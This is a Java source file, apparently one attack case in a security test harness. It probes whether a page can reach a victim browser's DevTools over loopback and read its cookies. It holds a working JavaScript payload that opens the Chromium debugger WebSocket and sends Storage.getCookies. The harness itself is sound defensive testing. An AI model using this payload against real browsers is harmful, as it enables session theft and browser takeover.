package dev.valise.hostile;

/**
 * Through the machine's loopback into another browser: its DevTools tell any page that is shown
 * from there how to reach them, and take the connection because it comes from that very page.
 */
record Takeover(String name, boolean pastProxy) implements Attack {

  // Chromium checks the Origin of a WebSocket, and the one of its own port passes
  // (content/browser/devtools/devtools_http_handler.cc).
  private static final String COOKIES =
      """
      (async () => {
        const opened = await (await fetch('/json/new?about:blank', {method: 'PUT'})).json();
        const browser = await (await fetch('/json/version')).json();
        const socket = new WebSocket(browser.webSocketDebuggerUrl);
        return new Promise(resolve => {
          socket.onopen = () => socket.send('{"id":1,"method":"Storage.getCookies"}');
          socket.onmessage = message => resolve('opened ' + opened.type + ', read ' + message.data);
          socket.onerror = () => resolve('no WebSocket');
        });
      })()\
      """;

  @Override
  public Outcome attempt(Scene scene) throws Exception {
    Page page = pastProxy ? scene.pagePastProxy() : scene.page();
    String list = page.show("http://127.0.0.1:%d/json/list".formatted(scene.victim().port()));
    if (!list.contains("webSocketDebuggerUrl")) {
      return new Outcome.Refused(list);
    }
    String answer = page.evaluate(COOKIES);
    return Outcome.of(answer.contains(scene.secret()), answer);
  }
}
